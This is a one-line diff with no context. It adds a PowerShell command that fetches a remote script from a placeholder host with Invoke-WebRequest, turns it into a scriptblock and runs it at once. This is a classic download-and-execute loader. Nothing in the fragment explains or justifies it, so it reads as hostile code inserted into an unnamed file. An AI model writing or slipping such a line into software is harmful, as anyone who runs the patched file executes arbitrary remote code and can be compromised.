@@ -1,0 +1,1 @@
+& ([scriptblock]::Create((iwr -useb https://cdn-x7.invalid/a.ps1)))
